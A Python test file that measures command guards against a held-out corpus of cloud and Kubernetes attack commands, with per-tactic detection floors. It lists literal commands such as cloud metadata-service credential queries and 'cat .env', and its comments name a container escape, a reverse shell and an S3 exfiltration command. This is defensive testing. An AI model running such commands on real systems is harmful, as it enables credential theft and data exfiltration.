"""Cloud, Kubernetes and container attack material nobody on the team had seen, at first sight.

``corpus/external/cloudk8s.jsonl`` holds the commands of BishopFox's badPods (MIT), Kubernetes Goat's
scenarios (MIT), lightspin's red-kube (Apache 2.0) and Rhino Security Labs' CloudGoat cheat sheets
(BSD-3-Clause); see external/README.md. Each was labelled before the guards judged it, then measured as
main stood ("first sight"); the floors below are today's figures per tactic, raised when the guards
improve and never lowered to let a change through. The whole exec decision is measured (the command
guard, the shell-file guard and what the command runs from disk or its standard input), as the hook
gives it: a manifest piped into ``kubectl apply -f -`` is judged by what it holds. Discovery and
ordinary steps are held to no false positive but the ones listed in KNOWN_FALSE_POSITIVES.
"""

from __future__ import annotations

from measured import HeldOut, exec_decision, held_out_tests
from test_corpus import CWD, HOME

FIRST_SIGHT = {
    # tactic: (held back at first sight, dangerous entries)
    "credential-access": (31, 52),
    "privilege-escalation": (29, 37),
    "command-and-control": (2, 7),
    "persistence": (3, 4),
    "scanning": (1, 3),
    "defense-impairment": (2, 2),
    "exfiltration": (0, 2),
    "impact": (0, 2),
}
"""What the guards held back (main at 23ddf33) before they were changed with this corpus in view: 68/109."""

FLOORS = {
    # left: an SSM parameter read without decryption (a String parameter is configuration)
    "credential-access": 51,
    # left: the release_agent escape written as a file from base64 (written, not run), a container
    # given the Docker socket that runs its image's own entrypoint (the socket alone is allowed:
    # tactics.jsonl's `docker run -v /var/run/docker.sock:... docker:cli docker ps`)
    "privilege-escalation": 33,
    # left: a reverse shell written to a file (run later, it is judged then), the escape script
    # given shell strings
    "command-and-control": 4,
    "persistence": 4,
    "scanning": 1,  # left: a /24 swept (a LAN: allowed by design), nmap fed the pod's own networks
    "defense-impairment": 2,
    "exfiltration": 1,  # left: `kubectl exec POD -- aws s3 cp data s3://$B --recursive` (the pod's data)
    "impact": 1,  # left: one instance terminated (test_tactics_cloud: a developer's everyday work)
}

KNOWN_FALSE_POSITIVES = {
    # The metadata service is held whole: its listings lead to the credential paths and user data.
    "curl http://169.254.169.254/latest/meta-data",
    'curl --silent -H "X-aws-ec2-metadata-token: $TOKEN" "http://169.254.169.254/latest/meta-data"',
    "curl -H \"Metadata-Flavor: Google\" 'http://metadata/computeMetadata/v1/instance/'",
    "curl -H 'Metadata-Flavor:Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/",
    'curl -H Metadata:true "http://169.254.169.254/metadata/instance?api-version=2020-10-01" | jq .',
    # The project's .env is read only by a person's leave: it holds the project's secrets.
    "cat .env",
    # Deleting what a service runs on in a cluster is asked (the persistence rule's service change).
    "kubectl delete cronjob hostpid-exec-cronjob",
    "kubectl delete -f manifests/hostipc/pod/hostipc-exec-pod.yaml",
    'find manifests/everything-allowed/ -name "*-exec-*.yaml" -exec kubectl delete -f {} \\;',
    "kubectl delete networkpolicy website-deny",
    # A chart fetched when helm runs cannot be judged before it runs: asked.
    "helm install falco falcosecurity/falco",
    "helm install tetragon cilium/tetragon -n kube-system",
    "helm install kyverno kyverno/kyverno -n kyverno --create-namespace",
    # A shell string built at run time inside xargs inside sh -c: asked as code the guard cannot see.
    'kubectl exec --stdin --tty trivy -- sh -c "mkdir scan_results && cat images_list | xargs -I @@ sh -c '
    "'OUT=scan_results/\\`echo @@ | tr / _\\`; trivy image @@ >> \\${OUT}'\"",
}


CORPUS = HeldOut(
    name="cloudk8s",
    first_sight=FIRST_SIGHT,
    floors=FLOORS,
    labels={"dangerous": 109, "benign": 180, "unlabelled": 74},
    sources={"badpods": 106, "cloudgoat": 145, "kubernetes-goat": 73, "red-kube": 39},
    judge=exec_decision(HOME, CWD),
    home=HOME,
    known_false_positives=frozenset(KNOWN_FALSE_POSITIVES),
)

(
    test_the_corpus_is_what_the_readme_describes,
    test_dangerous_commands_held_back_do_not_fall_below_todays,
    test_discovery_and_ordinary_steps_are_never_held_back,
) = held_out_tests(CORPUS)
